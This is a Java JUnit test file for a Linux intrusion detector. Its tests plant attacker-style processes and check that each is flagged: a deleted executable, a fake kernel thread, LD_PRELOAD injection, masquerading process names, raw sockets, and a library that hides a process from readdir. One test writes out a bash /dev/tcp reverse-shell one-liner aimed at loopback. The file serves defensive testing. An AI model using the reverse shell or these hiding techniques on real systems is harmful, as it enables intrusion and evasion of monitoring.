package dev.ward.detect.builtin;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.ward.collect.Scan;
import dev.ward.collect.procs.ProcessCollector;
import dev.ward.collect.procs.WatchCollector;
import dev.ward.host.HostRoot;
import dev.ward.model.Finding;
import dev.ward.run.ProcsSummary;
import java.io.File;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** Real processes started by the test, seen through the live host's /proc. */
class ProcessDetectorTest {
    private final List<Process> started = new ArrayList<>();

    @AfterEach
    void stop() {
        started.forEach(Process::destroyForcibly);
    }

    private Process start(String... command) throws Exception {
        Process p = new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
        started.add(p);
        Thread.sleep(300);
        return p;
    }

    static List<Finding> findings() throws Exception {
        try (HostRoot live = HostRoot.live()) {
            dev.ward.detect.Results out = new dev.ward.detect.Results();
            new ProcessDetector().detect(new Scan(live, InstantSource.system()), out);
            return out.findings();
        }
    }

    private static List<String> of(List<Finding> findings, long pid) {
        return findings.stream().filter(f -> f.pids().contains(pid)).map(f -> f.severity().label() + " " + f.check())
                .sorted().collect(Collectors.toList());
    }

    @Test
    void plantedProcessesAndAPlainOne() throws Exception {
        Path dir = Files.createTempDirectory(Path.of("/tmp"), ".ward-test");
        Path copy = dir.resolve("kdevtmpfsi");
        Files.copy(Path.of("/usr/bin/sleep"), copy);
        copy.toFile().setExecutable(true);
        Process deleted = start(copy.toString(), "600");
        Files.delete(copy);
        Files.delete(dir);
        Process fake = start("bash", "-c", "exec -a '[kworker/0:1]' sleep 600");
        Process preload = start("env", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libc.so.6", "sleep", "600");
        Process plain = start("sleep", "600");
        List<Finding> found = findings();
        assertEquals(List.of("high linux.procs.deleted_executable"), of(found, deleted.pid()));
        assertEquals(List.of("high linux.procs.fake_kernel_thread"), of(found, fake.pid()));
        assertEquals(List.of("high linux.procs.ld_preload"), of(found, preload.pid()));
        assertEquals(List.of(), of(found, plain.pid()));
        assertEquals(List.of(), of(found, ProcessHandle.current().pid()), "ward's own process is the self-check's");
        Finding d = found.stream().filter(f -> f.pids().contains(deleted.pid())).findFirst().orElseThrow();
        assertTrue(d.summary().contains(copy + ", deleted from disk, from a temporary or hidden place"), d.summary());
    }

    /**
     * Named after a system program while running another, by argv[0] and by a name set with prctl;
     * and what is no disguise: a script named like a program, a login shell's "-bash", sh for dash.
     */
    @Test
    void namedAfterAnotherProgram() throws Exception {
        Process byArgv0 = start("bash", "-c", "exec -a tail sleep 600");
        Process byName = start("/usr/bin/python3", "-c",
                "import ctypes, time; ctypes.CDLL(None).prctl(15, b'cat'); time.sleep(600)");
        Path dir = Files.createTempDirectory(Path.of("/tmp"), "ward-namesake");
        Path script = dir.resolve("tail");
        Files.writeString(script, "#!/bin/bash\nsleep 600; true\n");
        script.toFile().setExecutable(true);
        Process scripted = start(script.toString());
        Process login = start("bash", "-c", "exec -a -bash bash -c 'sleep 600; true'");
        Process sh = start("sh", "-c", "sleep 600; true");
        List<Finding> found = findings();
        Files.delete(script);
        Files.delete(dir);
        assertEquals(List.of("medium linux.procs.masquerading"), of(found, byArgv0.pid()));
        assertEquals(List.of("medium linux.procs.masquerading"), of(found, byName.pid()));
        Finding f = found.stream().filter(x -> x.pids().contains(byArgv0.pid())).findFirst().orElseThrow();
        assertTrue(f.summary().contains("is named like /usr/bin/tail but runs /usr/bin/sleep"), f.summary());
        assertEquals(List.of(), of(found, scripted.pid()));
        assertEquals(List.of(), of(found, login.pid()));
        assertEquals(List.of(), of(found, sh.pid()));
    }

    /** A job that comes and goes from a hidden directory in /tmp, seen while watched and counted. */
    @Test
    void shortLivedJobsWhileWatched() throws Exception {
        Path dir = Files.createTempDirectory(Path.of("/tmp"), ".ward-watch");
        Path job = dir.resolve("kswapd-helper");
        Files.copy(Path.of("/usr/bin/sleep"), job);
        job.toFile().setExecutable(true);
        start("bash", "-c", "for i in 1 2 3 4 5 6 7 8 9 10; do " + job + " 0.2; sleep 0.1; done");
        ProcessCollector now = new ProcessCollector();
        WatchCollector watched = new WatchCollector(java.time.Duration.ofSeconds(2));
        try (HostRoot live = HostRoot.live()) {
            Scan scan = new Scan(live, InstantSource.system());
            dev.ward.detect.Results out = new dev.ward.detect.Results();
            new ProcessDetector(now, watched).detect(scan, out);
            long runs = out.findings().stream().filter(f -> f.check().equals("linux.procs.runs_from_temp")
                    && job.toString().equals(f.evidence().get("exe"))).count();
            assertTrue(runs >= 3, runs + " runs found");
            var summary = ProcsSummary.of(now, watched).apply(scan);
            @SuppressWarnings("unchecked")
            var kinds = (List<java.util.Map<String, Object>>) summary.get("watched");
            var mine = kinds.stream().filter(k -> job.toString().equals(k.get("exe"))).findFirst().orElseThrow();
            int watchedRuns = (int) mine.get("runs");
            // the snapshot after the watch may hold one more run, born after the watch ended
            assertTrue(watchedRuns >= 3 && watchedRuns <= runs && runs <= watchedRuns + 1, watchedRuns + " of " + runs);
        } finally {
            Files.deleteIfExists(job);
            Files.deleteIfExists(dir);
        }
    }

    /** A process holding a raw ICMP socket, as an ICMP back door does (root opens one). */
    @Test
    @org.junit.jupiter.api.Tag("root")
    void rawIcmpSocket() throws Exception {
        Process p = start("python3", "-c", "import socket, time; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, "
                + "socket.IPPROTO_ICMP); time.sleep(600)");
        Thread.sleep(500);
        try (HostRoot live = HostRoot.live()) {
            dev.ward.detect.Results out = new dev.ward.detect.Results();
            new NetDetector().detect(new Scan(live, InstantSource.system()), out);
            assertEquals(List.of("high linux.net.raw_socket"), of(out.findings(), p.pid()));
            Finding f = out.findings().stream().filter(x -> x.pids().contains(p.pid())).findFirst().orElseThrow();
            assertTrue(f.summary().contains("a raw IPv4 socket for ICMP"), f.summary());
        }
    }

    /** A packet socket with a classic BPF filter attached (IPv4 frames only), read back as tcpdump -dd prints it. */
    @Test
    @org.junit.jupiter.api.Tag("root")
    void packetSocketFilter() throws Exception {
        Process p = start("/usr/bin/python3", "-c", String.join("\n",
                "import ctypes, socket, struct, time",
                "s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))",
                "code = [(0x28, 0, 0, 12), (0x15, 0, 1, 0x800), (0x6, 0, 0, 0xffff), (0x6, 0, 0, 0)]",
                "buf = ctypes.create_string_buffer(b''.join(struct.pack('HBBI', *c) for c in code))",
                "s.setsockopt(socket.SOL_SOCKET, 26, struct.pack('HL', len(code), ctypes.addressof(buf)))",
                "time.sleep(600)"));
        Thread.sleep(500);
        try (HostRoot live = HostRoot.live()) {
            dev.ward.detect.Results out = new dev.ward.detect.Results();
            new NetDetector().detect(new Scan(live, InstantSource.system()), out);
            assertEquals(List.of("medium linux.net.packet_socket"), of(out.findings(), p.pid()));
            Finding f = out.findings().stream().filter(x -> x.pids().contains(p.pid())).findFirst().orElseThrow();
            assertTrue(f.summary().contains("with a BPF filter of 4 instructions attached"), f.summary());
            assertEquals(List.of("{ 0x28, 0, 0, 0x0000000c }", "{ 0x15, 0, 1, 0x00000800 }", "{ 0x6, 0, 0, 0x0000ffff }",
                    "{ 0x6, 0, 0, 0x00000000 }"), f.evidence().get("bpf_filter"));
        }
    }

    /**
     * Listeners: one run from a hidden directory in /tmp (a listener built with gcc), and this JVM's
     * own, judged against a policy that names it and one that does not.
     */
    @Test
    void listeners() throws Exception {
        Path dir = Files.createTempDirectory(Path.of("/tmp"), ".ward-listen");
        Path src = dir.resolve("l.c");
        Files.writeString(src, """
                #include <arpa/inet.h>
                #include <stdio.h>
                #include <sys/socket.h>
                #include <unistd.h>
                int main(void) {
                    int s = socket(AF_INET, SOCK_STREAM, 0);
                    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
                    bind(s, (struct sockaddr *) &a, sizeof a);
                    listen(s, 1);
                    sleep(600);
                }
                """);
        Path bin = dir.resolve("httpd");
        Process cc = new ProcessBuilder("gcc", "-o", bin.toString(), src.toString()).redirectErrorStream(true).start();
        assumeTrue(cc.waitFor() == 0, "gcc is needed to build the listener");
        Process planted = start(bin.toString());
        try (ServerSocket mine = new ServerSocket(0, 1, InetAddress.getByName("127.0.0.1"));
             HostRoot live = HostRoot.live()) {
            dev.ward.detect.Results out = new dev.ward.detect.Results();
            new NetDetector(new dev.ward.collect.net.SocketCollector(), null, null, true)
                    .detect(new Scan(live, InstantSource.system()), out);
            assertEquals(List.of("high linux.net.listener_from_temp"), of(out.findings(), planted.pid()));
            assertTrue(out.findings().stream().noneMatch(f -> f.check().equals("linux.net.hidden_port")),
                    "every port that answers is in the tables: " + out.findings());
            int port = mine.getLocalPort();
            dev.ward.collect.net.PortPolicy none = dev.ward.collect.net.PortPolicy.parse("22/tcp sshd root\n", "ports");
            dev.ward.detect.Results strict = new dev.ward.detect.Results();
            new NetDetector(new dev.ward.collect.net.SocketCollector(), none, "ports", false)
                    .detect(new Scan(live, InstantSource.system()), strict);
            assertTrue(strict.findings().stream().anyMatch(f -> f.check().equals("linux.net.unexpected_listener")
                    && f.pids().contains(ProcessHandle.current().pid()) && f.summary().contains("port " + port + "/")));
            dev.ward.collect.net.PortPolicy mineOk = dev.ward.collect.net.PortPolicy.parse(port + "/tcp java *\n", "ports");
            dev.ward.detect.Results allowed = new dev.ward.detect.Results();
            new NetDetector(new dev.ward.collect.net.SocketCollector(), mineOk, "ports", false)
                    .detect(new Scan(live, InstantSource.system()), allowed);
            assertTrue(allowed.findings().stream().noneMatch(f -> f.check().equals("linux.net.unexpected_listener")
                    && f.summary().contains("port " + port + "/")));
        } finally {
            planted.destroyForcibly().waitFor();
            try (var files = Files.list(dir)) {
                for (Path f : files.toList()) {
                    Files.delete(f);
                }
            }
            Files.delete(dir);
        }
    }

    @Test
    void systemLibraryDirectories() {
        for (String lib : List.of("/usr/lib/x86_64-linux-gnu/libseconf.so.1", "/lib/x86_64-linux-gnu/libc.so.6",
                "/usr/lib64/ld-linux-x86-64.so.2", "/lib/libfoo.so", "/usr/lib/aarch64-linux-gnu/libz.so.1")) {
            assertTrue(ProcessDetector.SYSTEM_LIBRARY.matcher(lib).matches(), lib);
        }
        for (String lib : List.of("/usr/lib/jvm/temurin-25/lib/libjvm.so", "/usr/local/lib/libx.so",
                "/opt/app/lib/liby.so", "/usr/lib/x86_64-linux-gnu/perl/5.36/auto/POSIX/POSIX.so")) {
            assertFalse(ProcessDetector.SYSTEM_LIBRARY.matcher(lib).matches(), lib);
        }
    }

    /** A library preloaded into a process, then deleted while it runs, outside any temporary place. */
    @Test
    @org.junit.jupiter.api.Tag("root")
    void deletedLibrary() throws Exception {
        Path dir = Files.createTempDirectory(Path.of("/var/cache"), "ward-test");
        Path src = dir.resolve("gone.c");
        Files.writeString(src, "int ward_gone(void) { return 42; }\n");
        Path lib = dir.resolve("libgone.so");
        Process cc = new ProcessBuilder("gcc", "-shared", "-fPIC", "-o", lib.toString(), src.toString())
                .redirectErrorStream(true).start();
        assumeTrue(cc.waitFor() == 0, "gcc is needed to build the library");
        Process p = start("env", "LD_PRELOAD=" + lib, "sleep", "600");
        try {
            Files.delete(lib);
            List<Finding> found = findings();
            Finding f = found.stream().filter(x -> x.check().equals("linux.procs.deleted_library")
                    && x.pids().contains(p.pid())).findFirst().orElseThrow(() -> new AssertionError(found.toString()));
            assertEquals(lib.toString(), f.evidence().get("library"));
            assertEquals("low", f.severity().label());
        } finally {
            Files.deleteIfExists(src);
            Files.deleteIfExists(dir);
        }
    }

    /** A shell whose input and output are a TCP connection on the loopback. */
    @Test
    void reverseShell() throws Exception {
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Process shell = start("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + server.getLocalPort()
                    + "; exec bash -i <&3 >&3 2>&3");
            try (Socket accepted = server.accept()) {
                Thread.sleep(200);
                List<Finding> found = findings();
                assertEquals(List.of("critical linux.procs.reverse_shell"), of(found, shell.pid()));
                Finding f = found.stream().filter(x -> x.pids().contains(shell.pid())).findFirst().orElseThrow();
                assertEquals("127.0.0.1:" + server.getLocalPort(), f.evidence().get("remote"));
            }
        }
    }

    /**
     * A process hidden from readdir by a preloaded library (the scenarios' hide.c, built with gcc),
     * looked for by a second JVM running under that library, as ward would on an infected host.
     */
    @Test
    void hiddenFromReaddir() throws Exception {
        Path src = Path.of("../../shared/scenarios/hide.c");
        assumeTrue(Files.isRegularFile(src), "no ../shared/scenarios: skipped");
        Path dir = Files.createTempDirectory("ward-hide");
        Path lib = dir.resolve("hide.so");
        Process cc = new ProcessBuilder("gcc", "-O2", "-fPIC", "-shared", "-o", lib.toString(), src.toString(), "-ldl")
                .redirectErrorStream(true).start();
        assumeTrue(cc.waitFor() == 0, "gcc is needed to build the hiding library");
        Process hidden = start("sleep", "600");
        ProcessBuilder b = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "--enable-native-access=ALL-UNNAMED", "-cp", System.getProperty("java.class.path"),
                HiddenProbe.class.getName());
        b.environment().put("LD_PRELOAD", lib.toString());
        b.environment().put("HIDE_PID", Long.toString(hidden.pid()));
        Process probe = b.redirectErrorStream(true).start();
        String out = new String(probe.getInputStream().readAllBytes());
        assertTrue(probe.waitFor(60, TimeUnit.SECONDS));
        assertTrue(out.contains("linux.procs.hidden_process " + hidden.pid() + " "), out);
        assertTrue(out.contains("readdir (libc, what ps uses) does not list it"), out);
        Files.delete(lib);
        Files.delete(dir);
    }

    /**
     * An interface in promiscuous mode: the loopback of a network namespace of its own (with a sysfs
     * of that namespace mounted in a mount namespace of its own), looked at by a second JVM there.
     */
    @Test
    @org.junit.jupiter.api.Tag("root")
    void promiscuousInterface() throws Exception {
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/unshare"))
                && (Files.isExecutable(Path.of("/usr/sbin/ip")) || Files.isExecutable(Path.of("/sbin/ip"))), "needs unshare and ip");
        String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
        Process p = new ProcessBuilder("unshare", "--net", "--mount", "--propagation", "private", "sh", "-c",
                "mount -t sysfs sysfs /sys && ip link set lo promisc on && exec \"$0\" --enable-native-access=ALL-UNNAMED "
                        + "-cp \"$1\" \"$2\"", java, System.getProperty("java.class.path"), NetProbe.class.getName())
                .redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes());
        assertTrue(p.waitFor(60, TimeUnit.SECONDS));
        assertTrue(out.contains("linux.net.promiscuous_interface lo"), out);
    }

    /** Runs the network checks in its own JVM and prints each finding's check and interface. */
    public static final class NetProbe {
        public static void main(String[] args) throws Exception {
            try (HostRoot live = HostRoot.live()) {
                dev.ward.detect.Results out = new dev.ward.detect.Results();
                new NetDetector().detect(new Scan(live, InstantSource.system()), out);
                out.findings().forEach(f -> System.out.println(f.check() + " " + f.evidence().get("interface")));
            }
        }
    }

    /** Runs the detector in its own JVM and prints each finding's check, pids and summary. */
    public static final class HiddenProbe {
        public static void main(String[] args) throws Exception {
            for (Finding f : findings()) {
                for (long pid : f.pids()) {
                    System.out.println(f.check() + " " + pid + " " + f.summary());
                }
            }
            System.out.println(File.separator);
        }
    }
}
